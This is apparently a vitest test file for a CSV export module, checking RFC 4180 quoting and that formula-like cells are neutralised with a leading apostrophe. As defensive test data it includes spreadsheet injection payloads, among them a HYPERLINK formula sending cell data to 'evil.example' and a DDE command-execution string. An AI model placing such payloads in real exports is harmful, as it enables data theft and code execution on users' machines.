import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { CSV_MARK, csvLine, toCsv } from "./csv";

describe("what a spreadsheet would run is text", () => {
  test.each([
    ["=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1)'],
    ["+49 30 1234567"],
    ["-2+3"],
    ["@SUM(A1:A9)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["\n=1+1"],
    ["  =1+1"],
    ["\u00a0=1+1"],
    ["\ufeff=1+1"],
    ["＝1+1"],
    ["＠SUM(A1)"],
  ])("the cell %j is written as text that no spreadsheet runs", (formula) => {
    const [[cell = ""] = []] = parse(csvLine([formula])) as string[][];
    expect(cell).toBe(`'${formula}`);
    expect(csvLine([formula])).toMatch(/^"'/);
  });

  test("formulas are neutralised in column names and after quotes too", () => {
    expect(csvLine(["=cmd|' /C calc'!A0", '"=1"'])).toBe(`"'=cmd|' /C calc'!A0","""=1"""\r\n`);
  });
});

describe("RFC 4180", () => {
  test.each([
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["two\r\nlines", '"two\r\nlines"'],
    [" kept ", '" kept "'],
    ["semi;colon", "semi;colon"],
    ["Zoë 🎷", "Zoë 🎷"],
    ["", ""],
    [null, ""],
    [undefined, ""],
    [0, "0"],
    [-3, "-3"],
  ])("the cell %j is written as %s", (cell, written) => {
    expect(csvLine([cell])).toBe(`${written}\r\n`);
  });

  test("a file begins with the mark of UTF-8 and ends every record with CRLF", () => {
    expect(
      toCsv([
        ["a", 1],
        ["b", 2],
      ]),
    ).toBe(`${CSV_MARK}a,1\r\nb,2\r\n`);
  });

  test("written CSV is read back by another parser, apart from the apostrophe", () => {
    const cell = fc.string({ unit: "grapheme", maxLength: 20 });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
        const read = parse(toCsv(rows), { bom: true, relax_column_count: true }) as string[][];
        const bare = (text: string | undefined) => text?.replace(/^'/, "");
        expect(read.map((row) => row.map(bare))).toEqual(rows.map((row) => row.map(bare)));
      }),
    );
  });
});
